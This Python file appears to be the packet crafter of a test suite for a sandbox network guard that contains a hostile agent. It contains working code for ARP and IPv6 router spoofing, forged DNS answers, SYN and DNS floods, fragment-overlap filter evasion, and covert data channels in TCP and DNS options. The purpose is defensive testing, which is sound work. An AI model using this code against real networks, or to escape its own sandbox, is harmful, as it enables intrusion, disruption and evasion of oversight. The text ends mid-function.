#!/usr/bin/env python3
# Packet crafter of the escape-attempt suite: builds the frames a hostile
# agent would send (odd TCP flags, fragments, raw IP protocols, ICMP with
# payloads, VLAN tags, ARP/ND spoofing, crafted DNS messages, floods) with
# the standard library only, and sends them from inside a sandbox namespace
# on AF_PACKET (layer 2, so nothing in the sandbox's own stack cleans them
# up) or on ordinary sockets where the content is what is crafted (DNS).
#
#   craft.py tcp --dst A --dport P [--flags S] [--data TEXT] [--count N]
#                [--opt-len N] [--dstopts N]   (N bytes of TCP option data; an
#                IPv6 destination options header of N bytes carrying data)
#   craft.py proto --dst A --proto N [--data TEXT]
#   craft.py frag --dst A --dport P --kind tiny|overlap|nonfirst|tiny6|nonfirst6
#   craft.py icmp --dst A [--type 8] [--data TEXT]
#   craft.py icmp-error --dst A --inner-src A --inner-sport P --inner-dport P
#   craft.py vlan --dst A --dport P [--vid N] [--tpid 0x8100]
#   craft.py ether --dst-mac M --ethertype T [--data TEXT]
#   craft.py arp --sender-ip A [--sender-mac M] [--target-ip A] [--op 2]
#   craft.py na --target A [--tlla M] [--dst ff02::1]
#   craft.py ra --prefix P [--lifetime S] [--dst ff02::1]   (a router
#                advertisement: this sandbox as default router, P::/64 to
#                autoconfigure from, from its link-local address)
#   craft.py udp --dst A --dport P [--data TEXT] [--src A] [--src-mac M]
#   craft.py dns --server A --name N [--qtype 1] [--tcp] [--variant V] [--port 53]
#   craft.py dns-answer --to A --dport P --id N --name N --addr A   (forged, from upstream)
#   craft.py synflood --dst A --dport P --count N
#   craft.py dnsflood --server A --count N [--names-from SUFFIX]
#   craft.py held --dst A --dport P --sport P --scenario S [--good N] [--evil N]
#            (a TCP handshake of its own on a held flow, then an insertion:
#            S = ttl1-plain, ttl1-hello, syn2, resyn, resyn-old (a connection
#            promoted, reset, then another ISN on its ports: the ClientHello
#            again, or another name's in the first one's space), alert,
#            urg-ack, ack-VARIANT (a
#            handshake, then one segment near a bare ACK's shape: none plain ts
#            opts data urp psh ece res ipopt trail dstopts), srv-ack and
#            srv-ack-plain (a ClientHello, or plain text, 4 bytes more, the
#            server's bare ACK of them, then other bytes where the judged
#            ones are: to a server that reads and never answers); the sandbox's own
#            stack must not answer the server: drop its RSTs for that port first)
#   craft.py oob-tls --dst A [--dport 443] --name N   (the sandbox's own TCP: one
#            byte sent urgent, MSG_OOB, then a TLS handshake naming N: issue 30)
#   craft.py dns ... --tcp --oob   (the query sent urgent)
#   craft.py dns-overlap --dst A --sport P --scenario overlap|same|unlogged [--progress F --go F]
#   craft.py dns-answer-split --dst A --sport P --mss N --carrier N --name N [--progress F --go F]
#            (two queries over TCP; prints how the resolver's answers came in segments)
#   craft.py oob-server --listen A --port P --cert F --key F --log F [--inline]
#            (upstream: a TLS server that reads with SO_OOBINLINE when --inline,
#            answers "oob-server <SNI> ok" and logs each connection's first bytes)
#   craft.py record-server --listen A[,A] --port P --cert F --key F --log F [--inline]
#            [--idle S]   (upstream, for tcp_oracle.py: logs every byte each
#            connection's application read and the server name OpenSSL selected)
# Every address given may be IPv4 or IPv6. Layer 2 sends go to the
# gateway's MAC (--gw-mac or $ESC_GW_MAC) from eth0's own MAC unless told.
import argparse
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

IFACE = "eth0"


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def crc32c(data):
    crc = 0xFFFFFFFF
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def own_mac():
    with open("/sys/class/net/%s/address" % IFACE) as f:
        return f.read().strip()


def own_addr(family):
    """The sandbox's own global address of the family (the source to use)."""
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.connect(("203.0.113.1", 9) if family == socket.AF_INET else ("2001:db8::1", 9))
        return s.getsockname()[0]
    finally:
        s.close()


def is6(a):
    return ipaddress.ip_address(a).version == 6


def ipv4(src, dst, proto, payload, ident=None, frag_off=0, mf=False, df=False, ttl=64):
    ident = random.randrange(65536) if ident is None else ident
    flags = (0x2000 if mf else 0) | (0x4000 if df else 0) | (frag_off // 8)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags, ttl, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def ipv6(src, dst, nh, payload, hlim=64):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), nh, hlim,
                       socket.inet_pton(socket.AF_INET6, src),
                       socket.inet_pton(socket.AF_INET6, dst)) + payload


def l4sum(src, dst, proto, seg):
    if is6(src):
        ph = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) +
              struct.pack("!IxxxB", len(seg), proto))
    else:
        ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, len(seg))
    return csum(ph + seg)


FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10, "U": 0x20, "E": 0x40, "C": 0x80}


def tcp(src, dst, sport, dport, flags, data=b"", seq=None, ack=0, options=b"", urp=0):
    seq = random.randrange(1 << 32) if seq is None else seq
    fl = 0
    for c in flags:
        fl |= FLAGS[c]
    off = (20 + len(options)) // 4
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, fl, 65535, 0, urp) + options
    seg = h + data
    c = l4sum(src, dst, 6, seg)
    return seg[:16] + struct.pack("!H", c) + seg[18:]


def udp(src, dst, sport, dport, data):
    seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    c = l4sum(src, dst, 17, seg) or 0xFFFF
    return seg[:6] + struct.pack("!H", c) + seg[8:]


def icmp4(typ, code, rest, data):
    m = struct.pack("!BBH", typ, code, 0) + rest + data
    return m[:2] + struct.pack("!H", csum(m)) + m[4:]


def icmp6(src, dst, typ, code, body):
    m = struct.pack("!BBH", typ, code, 0) + body
    return m[:2] + struct.pack("!H", l4sum(src, dst, 58, m)) + m[4:]


def ip_packet(src, dst, proto, seg):
    return ipv6(src, dst, proto, seg) if is6(dst) else ipv4(src, dst, proto, seg)


COVERT = b"portcullis-covert-channel-"


def tcp_opt_data(n):
    """n bytes (a multiple of 4, at most 40) of TCP options carrying data:
    one experimental option (kind 254, RFC 6994), NOPs to round it up."""
    if n % 4 or n > 40 or n == 1:
        sys.exit("craft: --opt-len must be a multiple of 4, at most 40")
    if n == 0:
        return b""
    body = (COVERT * 2)[:n - 2]
    return bytes([254, n]) + body


def ipv6_dstopts(nh, n):
    """An IPv6 destination options header of n bytes (a multiple of 8, at
    least 8) whose options carry data: experimental option type 0x1e
    (RFC 4727; its top bits 00 mean 'skip if unknown', so every node passes
    it on), as many as fit, PadN for the rest."""
    if n < 8 or n % 8 or n > 2048:
        sys.exit("craft: --dstopts must be a multiple of 8 between 8 and 2048")
    opts = b""
    left = n - 2
    while left >= 3:
        k = min(255, left - 2)
        opts += bytes([0x1E, k]) + (COVERT * (k // len(COVERT) + 1))[:k]
        left -= k + 2
    opts += b"\0" * left  # Pad1 for 0-2 bytes
    return struct.pack("!BB", nh, n // 8 - 1) + opts


class L2:
    def __init__(self, gw_mac, src_mac=None):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.s.bind((IFACE, 0))
        self.gw = mac_bytes(gw_mac)
        self.me = mac_bytes(src_mac or own_mac())

    def send(self, ethertype, payload, dst=None, tags=()):
        hdr = (dst or self.gw) + self.me
        for tpid, vid in tags:
            hdr += struct.pack("!HH", tpid, vid)
        frame = hdr + struct.pack("!H", ethertype) + payload
        if len(frame) < 60:
            frame += b"\0" * (60 - len(frame))
        self.s.send(frame)

    def ip(self, pkt, tags=()):
        self.send(0x86DD if (pkt[0] >> 4) == 6 else 0x0800, pkt, tags=tags)


def gw_mac(a):
    m = a.gw_mac or os.environ.get("ESC_GW_MAC")
    if not m:
        sys.exit("craft: --gw-mac or ESC_GW_MAC needed")
    return m


def src_for(a, dst):
    return a.src or own_addr(socket.AF_INET6 if is6(dst) else socket.AF_INET)


def cmd_tcp(a):
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    opts = b""
    if a.tfo:
        # TCP Fast Open cookie request/cookie option (kind 34), padded
        opts = b"\x22\x0a" + os.urandom(8) + b"\x01\x01"
    if a.opt_len:
        opts = tcp_opt_data(a.opt_len)
    if a.dstopts and not is6(a.dst):
        sys.exit("craft: --dstopts is IPv6 only")
    for _ in range(a.count):
        sport = a.sport or random.randrange(20000, 60000)
        seg = tcp(src, a.dst, sport, a.dport, a.flags, os.fsencode(a.data), options=opts)
        if a.dstopts:
            l2.ip(ipv6(src, a.dst, 60, ipv6_dstopts(6, a.dstopts) + seg))
        else:
            l2.ip(ip_packet(src, a.dst, 6, seg))
    print("sent %d tcp %s -> %s:%d flags %s%s%s" % (
        a.count, src, a.dst, a.dport, a.flags,
        " options %d bytes" % len(opts) if opts else "",
        " dstopts %d bytes" % a.dstopts if a.dstopts else ""))


def cmd_proto(a):
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    data = os.fsencode(a.data)
    if a.proto == 47:  # GRE carrying an IPv4 packet (a tunnel)
        inner = ipv4("10.99.0.1", "203.0.113.12", 17, udp("10.99.0.1", "203.0.113.12", 9, 9, data))
        body = struct.pack("!HH", 0, 0x0800) + inner
    elif a.proto == 132:  # SCTP INIT, with its CRC32c (else conntrack calls it invalid)
        init = struct.pack("!BBHIIHHI", 1, 0, 20, random.randrange(1, 1 << 32), 65535, 1, 1,
                           random.randrange(1 << 32))
        body = struct.pack("!HHII", 5000, 22, 0, 0) + init
        body = body[:8] + struct.pack("<I", crc32c(body)) + body[12:]
    elif a.proto == 50:  # ESP: SPI, sequence, "encrypted" data
        body = struct.pack("!II", 0x1000, 1) + data
    else:
        body = data
    for _ in range(a.count):
        l2.ip(ip_packet(src, a.dst, a.proto, body))
    print("sent %d proto %d %s -> %s" % (a.count, a.proto, src, a.dst))


def cmd_frag(a):
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    sport = random.randrange(20000, 60000)
    data = os.fsencode(a.data)
    seg = tcp(src, a.dst, sport, a.dport, "S")
    if a.kind in ("tiny6", "nonfirst6", "overlap6"):
        ident = random.randrange(1 << 32)
        seg = tcp(src, a.dst, sport, a.dport, "S", data)

        def fh(off, m):
            return struct.pack("!BBHI", 6, 0, (off // 8) << 3 | (1 if m else 0), ident)
        if a.kind == "tiny6":
            parts = [(0, seg[:8], True), (8, seg[8:], False)]
        elif a.kind == "overlap6":
            parts = [(0, seg[:16], True), (8, seg[8:], False)]
        else:
            parts = [(8, seg[8:], False)]
        for off, chunk, more in parts:
            l2.ip(ipv6(src, a.dst, 44, fh(off, more) + chunk))
        print("sent ipv6 fragments (%s) %s -> [%s]:%d" % (a.kind, src, a.dst, a.dport))
        return
    ident = random.randrange(65536)
    if a.kind == "tiny":
        # first fragment: 8 bytes of TCP header (ports only, no flags)
        parts = [(0, seg[:8], True), (8, seg[8:], False)]
    elif a.kind == "overlap":
        # a harmless first fragment (a SYN to port 9), then a second one that
        # overlaps it and would rewrite the port and flags if overlap won
        benign = tcp(src, a.dst, sport, 9, "S")
        parts = [(0, benign[:8], True), (0, seg[:16], True), (16, seg[16:] + data, False)]
    elif a.kind == "nonfirst":
        parts = [(8, seg[8:] + data, False)]
    else:
        sys.exit("craft: unknown fragment kind")
    for off, chunk, more in parts:
        l2.ip(ipv4(src, a.dst, 6, chunk, ident=ident, frag_off=off, mf=more))
    print("sent ipv4 fragments (%s) %s -> %s:%d" % (a.kind, src, a.dst, a.dport))


def cmd_icmp(a):
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    data = os.fsencode(a.data)
    for i in range(a.count):
        if is6(a.dst):
            m = icmp6(src, a.dst, a.type if a.type != 8 else 128, 0,
                      struct.pack("!HH", 0x4242, i) + data)
            l2.ip(ipv6(src, a.dst, 58, m))
        else:
            l2.ip(ipv4(src, a.dst, 1, icmp4(a.type, 0, struct.pack("!HH", 0x4242, i), data)))
    print("sent %d icmp type %d %s -> %s (%d bytes data)" % (a.count, a.type, src, a.dst, len(data)))


def cmd_icmp_error(a):
    """An ICMP error (port unreachable) whose quoted packet is the reply
    direction of a flow the guard allowed: conntrack calls it RELATED. It is
    sent to another address, with data after the quote (a tunnel)."""
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    inner = ipv4(a.inner_src, src, 6, tcp(a.inner_src, src, a.inner_dport, a.inner_sport, "PA",
                                          os.fsencode(a.data)))
    l2.ip(ipv4(src, a.dst, 1, icmp4(3, 3, b"\0\0\0\0", inner)))
    print("sent icmp error about %s:%d quoting a reply, to %s" % (a.inner_src, a.inner_dport, a.dst))


def cmd_vlan(a):
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    pkt = ip_packet(src, a.dst, 17, udp(src, a.dst, 40000, a.dport, os.fsencode(a.data)))
    tags = [(int(a.tpid, 0), a.vid)]
    if a.qinq:
        tags = [(0x88A8, a.vid), (0x8100, a.vid + 1)]
    for _ in range(a.count):
        l2.ip(pkt, tags=tags)
    print("sent %d tagged frames (%s vid %d) -> %s:%d" % (a.count, a.tpid, a.vid, a.dst, a.dport))


def cmd_ether(a):
    l2 = L2(a.gw_mac or os.environ.get("ESC_GW_MAC") or "ff:ff:ff:ff:ff:ff", a.src_mac)
    for _ in range(a.count):
        l2.send(int(a.ethertype, 0), os.fsencode(a.data), dst=mac_bytes(a.dst_mac))
    print("sent %d frames ethertype %s to %s" % (a.count, a.ethertype, a.dst_mac))


def cmd_arp(a):
    smac = a.sender_mac or own_mac()
    l2 = L2("ff:ff:ff:ff:ff:ff", a.src_mac or smac)
    tip = a.target_ip or a.sender_ip
    tmac = "00:00:00:00:00:00" if a.op == 1 else "ff:ff:ff:ff:ff:ff"
    body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, a.op, mac_bytes(smac),
                       socket.inet_aton(a.sender_ip), mac_bytes(tmac), socket.inet_aton(tip))
    dst = mac_bytes(a.dst_mac) if a.dst_mac else None
    for _ in range(a.count):
        l2.send(0x0806, body, dst=dst or b"\xff" * 6)
    print("sent %d arp op %d: %s is-at %s" % (a.count, a.op, a.sender_ip, smac))


def cmd_na(a):
    tlla = a.tlla or own_mac()
    l2 = L2(gw_mac(a), a.src_mac)
    src = a.src or link_local(own_mac())
    body = struct.pack("!I16s", 0x20000000 | (0x40000000 if a.solicited else 0),
                       socket.inet_pton(socket.AF_INET6, a.target))
    body += struct.pack("!BB6s", 2, 1, mac_bytes(tlla))
    m = icmp6(src, a.dst, 136, 0, body)
    dst_mac = None if a.dst != "ff02::1" else b"\x33\x33\x00\x00\x00\x01"
    for _ in range(a.count):
        l2.send(0x86DD, ipv6(src, a.dst, 58, m, hlim=255), dst=dst_mac)
    print("sent %d neighbour adverts: %s is-at %s (from %s)" % (a.count, a.target, tlla, src))


def cmd_ra(a):
    """What a rogue router sends: "route through me" (router lifetime) and
    "take an address in P::/64" (prefix information, on-link and
    autonomous), with the source link-layer address, from the link-local
    address and at hop limit 255 as a host requires of a real one."""
    l2 = L2(gw_mac(a), a.src_mac)
    src = a.src or link_local(own_mac())
    # hop limit, flags (none), router lifetime, reachable, retrans
    body = struct.pack("!BBHII", 64, 0, a.lifetime, 0, 0)
    body += struct.pack("!BB6s", 1, 1, mac_bytes(own_mac()))
    # prefix information: /64, L and A, valid and preferred lifetimes
    body += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0,
                        socket.inet_pton(socket.AF_INET6, a.prefix))
    m = icmp6(src, a.dst, 134, 0, body)
    dst_mac = None if a.dst != "ff02::1" else b"\x33\x33\x00\x00\x00\x01"
    for _ in range(a.count):
        l2.send(0x86DD, ipv6(src, a.dst, 58, m, hlim=255), dst=dst_mac)
    print("sent %d router adverts: default router %s, prefix %s/64" % (a.count, src, a.prefix))


def link_local(mac):
    b = bytearray(mac_bytes(mac))
    b[0] ^= 2
    return str(ipaddress.IPv6Address(b"\xfe\x80" + b"\0" * 6 + bytes(b[:3]) + b"\xff\xfe" + bytes(b[3:])))


def quic_initial():
    """The start of a QUIC v1 Initial packet (long header), padded as
    clients pad them: what a QUIC stack sends first."""
    dcid = os.urandom(8)
    body = os.urandom(1100)
    return (b"\xc3" + struct.pack("!I", 1) + bytes([len(dcid)]) + dcid + b"\x00" + b"\x00" +
            struct.pack("!H", 0x4000 | len(body)) + body)


def cmd_udp(a):
    l2 = L2(gw_mac(a), a.src_mac)
    src = src_for(a, a.dst)
    data = quic_initial() if a.quic else os.fsencode(a.data)
    for _ in range(a.count):
        pkt = ip_packet(src, a.dst, 17, udp(src, a.dst, a.sport or random.randrange(20000, 60000),
                                            a.dport, data))
        l2.ip(pkt)
    print("sent %d udp %s -> %s:%d" % (a.count, src, a.dst, a.dport))


# ---- DNS messages ----------------------------------------------------------------

QT = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28,
      "SRV": 33, "OPT": 41, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "CAA": 257}


def qname(name):
    out = b""
    for label in name.rstrip(".").split("."):
        lb = label.encode()
        out += bytes([len(lb)]) + lb
    return out + b"\0"


def opt_rr(options=b"", version=0, udp_size=1232, owner=b"\0"):
    return owner + struct.pack("!HHBBHH", 41, udp_size, 0, version, 0, len(options)) + options


def dns_query(a, ident):
    qt = QT.get(a.qtype.upper()) if not a.qtype.isdigit() else int(a.qtype)
    q = qname(a.name) + struct.pack("!HH", qt, 1)
    v = a.variant
    qd, an, ns, ar = 1, 0, 0, 0
    body, extra = q, b""
    flags = 0x0100
    if v == "two-questions":
        qd = 2
        body = q + qname(a.name2 or "paste.evil.test") + struct.pack("!HH", 1, 1)
    elif v == "zero-questions":
        qd, body = 0, b""
    elif v == "answer-in-query":
        an = 1
        extra = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.12")
    elif v == "ecs":  # EDNS client subnet carrying 4 bytes of data
        ar = 1
        data = struct.pack("!HBB", 1, 24, 0) + b"\x41\x42\x43"
        extra = opt_rr(struct.pack("!HH", 8, len(data)) + data)
    elif v == "padding-data":  # EDNS padding that is not zeros: a channel
        ar = 1
        extra = opt_rr(struct.pack("!HH", 12, 16) + b"exfiltrated-data")
    elif v == "edns1":
        ar, extra = 1, opt_rr(version=1)
    elif v == "two-opt":
        ar, extra = 2, opt_rr() + opt_rr()
    elif v == "opt-owner":
        ar, extra = 1, opt_rr(owner=qname("x.evil.test"))
    elif v == "unknown-option":
        ar, extra = 1, opt_rr(struct.pack("!HH", 65001, 8) + b"tunneled")
    elif v == "oversized":  # a legal-looking query padded past 512 bytes
        ar, extra = 1, opt_rr(struct.pack("!HH", 12, 600) + b"\0" * 600)
    elif v == "pointer-loop":  # the question's name is a pointer to itself
        body = b"\xc0\x0c" + struct.pack("!HH", 1, 1)
    elif v == "pointer-forward":  # a pointer past the end of the message
        body = b"\xc0\xff" + struct.pack("!HH", 1, 1)
    elif v == "label-dot":  # a dot inside a label
        body = bytes([15]) + b"api.github.test" + b"\0" + struct.pack("!HH", qt, 1)
    elif v == "class-chaos":
        body = qname(a.name) + struct.pack("!HH", qt, 3)
    elif v == "opcode-notify":
        flags = 0x2000
    elif v == "response":  # QR set: a sandbox sending an answer
        flags = 0x8400
        an = 1
        extra = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.12")
    elif v == "trailing":  # bytes after the last record
        extra = b"tunnel-bytes"
    elif v != "plain":
        sys.exit("craft: unknown dns variant " + v)
    elif getattr(a, "edns", False):  # speak EDNS: refusals then carry their reason (EDE)
        ar, extra = 1, opt_rr()
    return struct.pack("!HHHHHH", ident, flags, qd, an, ns, ar) + body + extra


def rcode_of(resp):
    if len(resp) < 12:
        return "short"
    names = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
    r = resp[3] & 0xF
    return names.get(r, "RCODE%d" % r)


def answer_addrs(resp):
    """The A records of an answer (enough of a parser for the lab's answers)."""
    try:
        qd, an = struct.unpack("!HH", resp[4:8])
        i = 12
        for _ in range(qd):
            while resp[i] and resp[i] < 0xC0:
                i += resp[i] + 1
            i += 2 if resp[i] >= 0xC0 else 1
            i += 4
        out = []
        for _ in range(an):
            while resp[i] and resp[i] < 0xC0:
                i += resp[i] + 1
            i += 2 if resp[i] >= 0xC0 else 1
            typ, _, _, rdlen = struct.unpack("!HHIH", resp[i:i + 10])
            i += 10
            if typ == 1 and rdlen == 4:
                out.append(socket.inet_ntoa(resp[i:i + 4]))
            i += rdlen
        return ",".join(out)
    except (IndexError, struct.error):
        return ""


def cmd_dns_answer(a):
    """A forged answer, as an off-path spoofer upstream would send it: from
    the resolver's address and port 53 to a sandbox's address and port."""
    l2 = L2(gw_mac(a), a.src_mac)
    q = qname(a.name) + struct.pack("!HH", 1, 1)
    rr = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(a.addr)
    msg = struct.pack("!HHHHHH", a.id, 0x8580, 1, 1, 0, 0) + q + rr
    for _ in range(a.count):
        l2.ip(ipv4(a.resolver, a.to, 17, udp(a.resolver, a.to, 53, a.dport, msg)))
    print("sent %d forged answers %s -> %s to %s:%d id %d" % (a.count, a.name, a.addr, a.to,
                                                               a.dport, a.id))


def cmd_dns(a):
    fam = socket.AF_INET6 if is6(a.server) else socket.AF_INET
    ident = a.id if a.id is not None else random.randrange(65536)
    msg = dns_query(a, ident)
    if a.tcp:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(a.timeout)
        try:
            s.connect((a.server, a.port))
            if a.split:  # the length prefix and the message in two segments
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                s.send(struct.pack("!H", len(msg)))
                time.sleep(0.2)
                s.send(msg)
            elif a.double:  # two messages in one segment
                s.send(struct.pack("!H", len(msg)) + msg + struct.pack("!H", len(msg)) + msg)
            elif a.oob:  # sent urgent: URG, the pointer past the last byte
                print("sport %d" % s.getsockname()[1], end="; ")
                s.send(struct.pack("!H", len(msg)) + msg, socket.MSG_OOB)
            else:
                s.send(struct.pack("!H", len(msg)) + msg)
            hdr = s.recv(2)
            if len(hdr) < 2:
                print("closed")
                return
            resp = s.recv(struct.unpack("!H", hdr)[0])
            print(rcode_of(resp), ede_text(resp))
        except (ConnectionResetError, ConnectionRefusedError) as e:
            print("reset", type(e).__name__)
        except (socket.timeout, OSError) as e:
            print("timeout" if isinstance(e, socket.timeout) else "error " + type(e).__name__)
        return
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if a.sport:
        s.bind(("", a.sport))
    s.settimeout(a.timeout)
    s.sendto(msg, (a.server, a.port))
    try:
        resp, _ = s.recvfrom(65535)
        print(rcode_of(resp), ede_text(resp), answer_addrs(resp))
    except socket.timeout:
        print("timeout")
    except OSError as e:
        print("error", e.strerror)


def ede_text(resp):
    i = resp.find(b"portcullis: ")
    if i < 0:
        return ""
    j = i
    while j < len(resp) and 32 <= resp[j] < 127:
        j += 1
    return resp[i:j].decode()


def cmd_synflood(a):
    """As many SYNs as asked, from the sandbox's own address (spoofed ones
    die at layer 2) with random ports, through a raw socket."""
    fam6 = is6(a.dst)
    src = src_for(a, a.dst)
    s = socket.socket(socket.AF_INET6 if fam6 else socket.AF_INET, socket.SOCK_RAW,
                      socket.IPPROTO_TCP)
    for i in range(a.count):
        s.sendto(tcp(src, a.dst, random.randrange(1024, 65535), a.dport, "S"), (a.dst, 0))
    print("sent %d SYNs to %s:%d" % (a.count, a.dst, a.dport))


def cmd_dnsflood(a):
    """Queries as fast as one socket sends them, each for a new name (under
    --suffix: thousands of names to learn), not waiting for answers; the
    answers are counted at the end."""
    fam = socket.AF_INET6 if is6(a.server) else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.setblocking(False)
    answered = refused = 0
    tag = random.randrange(1 << 20)
    for i in range(a.count):
        name = "n%d-%d.%s" % (tag, i, a.suffix)
        a.name = name
        msg = dns_query(a, i & 0xFFFF)
        while True:
            try:
                s.sendto(msg, (a.server, 53))
                break
            except BlockingIOError:
                select.select([], [s], [], 0.1)
        # read what is there without waiting
        while True:
            try:
                resp, _ = s.recvfrom(4096)
            except (BlockingIOError, ConnectionRefusedError):
                break
            answered += 1
            refused += rcode_of(resp) == "REFUSED"
        if a.pace and i % a.pace == 0:
            time.sleep(0.001)
    end = time.time() + 2
    while time.time() < end:
        r, _, _ = select.select([s], [], [], 0.2)
        if not r:
            continue
        try:
            resp, _ = s.recvfrom(4096)
        except OSError:
            continue
        answered += 1
        refused += rcode_of(resp) == "REFUSED"
    print("sent %d queries, %d answers, %d refused" % (a.count, answered, refused))


# ---- held flows: insertion (a client of its own: handshake, then segments
# the gateway lets through but that never arrive, TTL / hop limit 1) --------

def tls_client_hello(name):
    """A real ClientHello for name (OpenSSL's, as a real client sends it)."""
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(i, o, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()


def tls_get(s, name):
    """GET / over TLS (no certificate check) on the connected socket s,
    naming name: the body's text, stripped (what the server served)."""
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname=name)
    t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % name).encode())
    body = b""
    while True:
        b = t.recv(4096)
        if not b:
            break
        body += b
    return body.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip()


class TcpPeer:
    """One TCP connection from the sandbox's address, on layer 2 both ways."""

    def __init__(self, a):
        self.l2 = L2(gw_mac(a), getattr(a, "src_mac", None))
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.rx.bind((IFACE, 0))
        self.dst, self.dport, self.sport = a.dst, a.dport, a.sport
        self.src = src_for(a, a.dst)
        self.v6 = is6(a.dst)
        self.seen = []  # (flags, seq, ack, payload length) of the server's segments
        self.segs = []  # the same with (..., TCP options, payload)

    def send(self, flags, seq, ack=0, data=b"", ttl=64, urp=0, options=b""):
        seg = tcp(self.src, self.dst, self.sport, self.dport, flags, data, seq=seq, ack=ack,
                  urp=urp, options=options)
        if self.v6:
            pkt = ipv6(self.src, self.dst, 6, seg, hlim=ttl)
        else:
            pkt = ipv4(self.src, self.dst, 6, seg, ttl=ttl)
        self.l2.ip(pkt)

    def recv(self, timeout, until=None):
        """The server's segments to our port within timeout (all kept in seen
        and segs), or until one makes until((flags, seq, ack, options,
        payload)) true."""
        got = []
        end = time.time() + timeout
        while True:
            left = end - time.time()
            if left <= 0:
                return got
            r, _, _ = select.select([self.rx], [], [], left)
            if not r:
                return got
            frame, addr = self.rx.recvfrom(65535)
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            et = struct.unpack("!H", frame[12:14])[0]
            ip = frame[14:]
            if et == 0x0800 and not self.v6 and len(ip) >= 20 and ip[9] == 6:
                src = socket.inet_ntoa(ip[12:16])
                l4 = ip[(ip[0] & 15) * 4:struct.unpack("!H", ip[2:4])[0]]
            elif et == 0x86DD and self.v6 and len(ip) >= 40 and ip[6] == 6:
                src = socket.inet_ntop(socket.AF_INET6, ip[8:24])
                l4 = ip[40:40 + struct.unpack("!H", ip[4:6])[0]]
            else:
                continue
            if len(l4) < 20 or ipaddress.ip_address(src) != ipaddress.ip_address(self.dst):
                continue
            sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", l4[:14])
            if sp != self.dport or dp != self.sport:
                continue
            hl = (off >> 4) * 4
            seg = (fl, seq, ack, len(l4) - hl)
            got.append(seg)
            self.seen.append(seg)
            self.segs.append((fl, seq, ack, l4[20:hl], l4[hl:]))
            if until and until(self.segs[-1]):
                return got

    def handshake(self, isn):
        """A SYN, sent again after 1 s and 2 s more as a kernel's TCP would:
        on a loaded machine the guard's first answer can come late (the
        queue thread busy with a record that waits on logd), and one SYN
        with a fixed 2 s wait made tests fail that were not about the
        handshake. Ends at the SYN-ACK or at a reset."""
        want = (isn + 1) & 0xFFFFFFFF
        answered = lambda s: s[0] & 0x04 or (s[0] & 0x12 == 0x12 and s[2] == want)
        for wait in (1, 2, 4):
            self.send("S", isn)
            for fl, seq, ack, _ in self.recv(wait, until=answered):
                if fl & 0x12 == 0x12 and ack == want:
                    self.rcv = (seq + 1) & 0xFFFFFFFF
                    self.send("A", isn + 1, self.rcv)
                    return True
                if fl & 0x04:
                    return False
        return False

    def summary(self):
        data = sum(n for fl, _, _, n in self.seen if not fl & 0x02)
        rst = sum(1 for fl, _, _, _ in self.seen if fl & 0x04)
        return "server segments %d, data bytes %d, resets %d" % (len(self.seen), data, rst)


def cmd_held(a):
    p = TcpPeer(a)
